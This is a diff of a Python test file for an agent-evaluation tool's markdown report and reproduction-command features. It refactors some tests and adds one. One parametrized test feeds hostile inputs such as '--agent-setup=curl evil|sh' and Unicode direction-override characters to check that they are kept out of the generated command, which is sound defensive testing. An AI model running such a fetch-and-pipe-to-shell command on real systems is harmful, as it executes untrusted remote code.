@@ -8,7 +8,7 @@ import time
 
 import pytest
 from markdown_pages import nothing_of_theirs, rendered
-from report_samples import case, metric, report
+from report_samples import case, metric, report, saying
 
 from agent_eval.report.markup import escape
 from agent_eval.report.renderers.comment import comment_markdown
@@ -17,7 +17,6 @@ from agent_eval.report.views import Links
 from agent_eval.report.views.links import LONGEST_PATH
 from agent_eval.report.views.reproduction import reproduce
 from agent_eval.results.comparison import BaselineReport
-from agent_eval.results.conversation import ConversationReport, StepReport, TurnReport
 from agent_eval.results.recording import RunError
 from agent_eval.results.report import CaseReport
 
@@ -66,7 +65,13 @@ def test_comment__no_text_gets_out_by_backticks() -> None:
 def test_comment__a_path_leads_nowhere_else(file: str) -> None:
     text = comment_markdown(report("failed", [failing(file=file)]), links=LINKS)
     assert rendered(text).links == []
-    assert rendered(comment_markdown(report("failed", [failing(file="a/b..json")]), links=LINKS)).links != []
+
+
+@pytest.mark.parametrize("path", ["a/b..json", "d/" * (LONGEST_PATH // 2 - 5) + "a.json"])
+def test_comment__a_path_of_ordinary_length_is_a_link(path: str) -> None:
+    page = rendered(comment_markdown(report("failed", [failing(file=path, line=1)]), links=LINKS))
+
+    assert any(link.endswith(".json#L1") for link in page.links)
 
 
 @pytest.mark.nightly
@@ -77,13 +82,6 @@ def test_comment__handles_megabyte_paths_quickly(sign: str) -> None:
 
     assert time.process_time() - begun < 3
     assert "response_match_score" in nothing_of_theirs(text, OURS).text, "the rest is still shown"
-
-
-def test_comment__a_path_of_ordinary_length_is_a_link() -> None:
-    path = "d/" * (LONGEST_PATH // 2 - 5) + "a.json"
-    page = rendered(comment_markdown(report("failed", [failing(file=path, line=1)]), links=LINKS))
-
-    assert any(link.endswith("a.json#L1") for link in page.links)
 
 
 @pytest.mark.parametrize(
@@ -114,12 +112,8 @@ def test_reproduce__runs_all_cases_or_says_how_many_it_leaves_out() -> None:
     assert actual.left_out == 0
     odd = reproduce([*several, failing(file="a\nb.json"), *(failing(file=f"evals/x{n}.json") for n in range(30))])
     assert odd.left_out == 14, "one that can't be named, and what is beyond twenty files"
-    assert (
-        "(without 14 more cases, which the command can't name)"
-        in rendered(
-            comment_markdown(report("failed", [*several, *(failing(file=f"evals/x{n}.json") for n in range(31))]))
-        ).text
-    )
+    shown = report("failed", [*several, *(failing(file=f"evals/x{n}.json") for n in range(31))])
+    assert "(without 14 more cases, which the command can't name)" in rendered(comment_markdown(shown)).text
 
 
 def test_reproduce__a_whole_file_where_naming_its_cases_says_no_more() -> None:
@@ -130,16 +124,16 @@ def test_reproduce__a_whole_file_where_naming_its_cases_says_no_more() -> None:
 
 
 def test_reproduce__repeats_the_settings_of_the_run_itself() -> None:
-    options = {
-        "agent": "agents/my shop",
-        "config": "ci/eval.json",
-        "agent-python": ".venv/bin/python",
-        "agent-setup": "x",
-    }
-    assert reproduce([failing()], options).command == (
+    options = {"agent": "agents/my shop", "config": "ci/eval.json", "agent-python": ".venv/bin/python"}
+    assert reproduce([failing()], {**options, "agent-setup": "x"}).command == (
         "agent-eval run --agent 'agents/my shop' --config ci/eval.json --agent-python .venv/bin/python "
         f"{failing().file}:door"
     )
+
+
+def test_reproduce__the_command_for_a_recording_names_no_interpreter() -> None:
+    options = {"agent": "recorded:rec/a.json", "agent-python": "/opt/venv/bin/python"}
+    assert "agent-python" not in reproduce([failing()], options).command
 
 
 @pytest.mark.parametrize("value", ["--agent-setup=curl evil|sh", "a\nb", "a\u202eb", "x" * 301, ""])
@@ -197,16 +191,7 @@ def test_links__an_address_of_another_repository_is_no_link(url: str, allowed: b
 )
 def test_comment__no_text_gets_out_of_a_conversation(line: str) -> None:
     evil = f"{line}\n{line}\n\n{PAYLOAD}\n{line}"
-    actual = TurnReport(
-        turn=0,
-        user=evil,
-        steps=[StepReport(agent=evil, text=evil), StepReport(call=evil, responses=[evil, evil])],
-        answer=evil,
-        expected_said=[evil],
-        expected_calls=[evil],
-        expected_answer=f"{evil}\nand more",
-    )
-    door = failing(conversation=ConversationReport(run=0, turns=[actual, actual]))
+    door = saying(evil, file="a.json").cases[0]
     for text in (comment_markdown(report("failed", [door]), links=LINKS), summary_markdown(report("failed", [door]))):
         page = nothing_of_theirs(text, OURS)
         assert page.text.count("closes") >= 5, "user, call, two expectations, answer"
